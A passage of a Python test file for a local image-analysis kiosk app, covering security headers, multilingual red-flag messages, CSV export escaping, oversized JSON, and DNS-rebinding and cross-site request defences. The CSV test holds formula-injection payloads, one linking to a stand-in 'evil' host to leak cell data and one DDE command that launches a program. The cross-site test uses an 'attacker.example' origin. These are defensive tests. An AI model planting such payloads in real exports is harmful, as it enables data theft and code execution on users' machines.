            return None if index is None else Preview(jpeg=b"jpeg%d" % index, quality=None, index=index,
                                                      timestamp=time.monotonic())

    parts = list(_mjpeg(Flicker(), fps=20, limit=3))
    assert [part.split(b"\r\n\r\n", 1)[1][:5] for part in parts] == [b"jpeg1", b"jpeg2", b"jpeg3"]


def test_the_report_page_is_sent_with_a_script_free_policy(tmp_path, ham_images):
    """Template reports (no language model here): the HTML and markdown come with a CSP that allows no script
    and no fetches, nosniff, and no-store."""
    from edge.assistant.service import build_assistant
    from edge.inference import load_pack
    from edge.paths import default_model_dir

    settings = load_settings(None, {"assistant": {"model_path": str(tmp_path / "none.gguf")}})
    assistant = build_assistant(settings, load_pack(default_model_dir()))
    kiosk = build_kiosk(tmp_path, default_model_dir(), ham_images, assistant=assistant)
    try:
        client = kiosk.app.test_client()
        result = upload(client, ham_images[0].read_bytes()).get_json()
        for fmt in ("html", "md"):
            response = client.get(f"/api/report/{result['id']}?format={fmt}")
            assert response.status_code == 200, response.get_data(as_text=True)
            assert "default-src 'none'" in response.headers["Content-Security-Policy"]
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert response.headers["Cache-Control"] == "no-store"
    finally:
        kiosk.close()
        assistant.close()


def test_redflag_message_in_each_language(client):
    from edge.assistant.redflags import urgent_message

    for lang in ("en", "es", "fr"):
        body = client.get(f"/api/redflag-message?flags=bleeding,nail_streak,nonsense&lang={lang}").get_json()
        assert body == {"text": urgent_message(lang, ["bleeding", "nail_streak"])}
    assert client.get("/api/redflag-message").get_json()["text"] == urgent_message("en", [])


# -- requests from elsewhere ----------------------------------------------------------------------------------
def test_a_note_cannot_become_a_spreadsheet_formula_in_the_export(kiosk, client):
    """A note typed as "=HYPERLINK(...)" ran as a formula when the worker opened the CSV in a spreadsheet."""
    result = capture(client)
    for note in ('=HYPERLINK("http://evil/?"&A2,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"):
        assert client.post(f"/api/history/{result['id']}/note", json={"note": note}).status_code == 200
        rows = list(csv.reader(io.StringIO(client.get("/api/history.csv").get_data(as_text=True))))
        row = next(r for r in rows if r[0] == result["id"])
        assert row[-1] == "'" + note, row
    assert client.post(f"/api/history/{result['id']}/note", json={"note": "a plain note"}).status_code == 200
    assert kiosk.history.entries()[0]["note"] == "a plain note"  # stored as typed; only the export escapes


def test_deep_or_huge_json_gets_a_4xx_not_a_500_or_the_memory(client):
    deep = "[" * 1000 + "]" * 1000
    for path in ("/api/chat", "/api/symptoms/0123456789abcdef", "/api/history/0123456789abcdef/note"):
        response = client.post(path, data=deep, content_type="application/json")
        assert 400 <= response.status_code < 500, (path, response.status_code)
    huge = json.dumps({"message": "hi", "padding": "x" * (200 * 1024)})
    response = client.post("/api/chat", data=huge, content_type="application/json")
    assert response.status_code == 413 and "request body above 64 kB" in response.get_json()["error"]


def test_pages_elsewhere_cannot_drive_or_read_the_kiosk(kiosk, client):
    """Opened to the network, the kiosk answered any Host (a DNS-rebinding page could read the history) and
    any cross-site POST (another page could purge the history or take a capture)."""
    result = capture(client)
    foreign = client.get("/api/history", headers={"Host": "attacker.example"})
    assert foreign.status_code == 400 and "kiosk.allowed_hosts" in foreign.get_json()["error"]
    before = len(kiosk.history.entries())
    cross_site = {"Origin": "http://attacker.example", "Content-Type": "application/x-www-form-urlencoded"}
    for path in ("/api/history/purge", "/api/capture", "/api/session/new"):
        response = client.post(path, headers=cross_site)
        assert response.status_code == 403, (path, response.status_code)
    assert client.post("/api/capture", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert len(kiosk.history.entries()) == before  # nothing purged, nothing captured
    cleared = kiosk.sessions.cleared
    client.get("/", headers={"Sec-Fetch-Dest": "image", "Sec-Fetch-Site": "cross-site"})  # an <img src> elsewhere
    assert kiosk.sessions.cleared == cleared and client.get(result["saliency_url"]).status_code == 200
    same = client.post("/api/session/new", headers={"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"})
    assert same.status_code == 200  # the kiosk's own page still works
    assert client.get("/api/preview", headers={"Host": "127.0.0.1:8080"}).status_code == 200
    assert client.get("/health", headers={"Host": "waitress.invalid"}).status_code == 200  # HTTP/1.0 probes
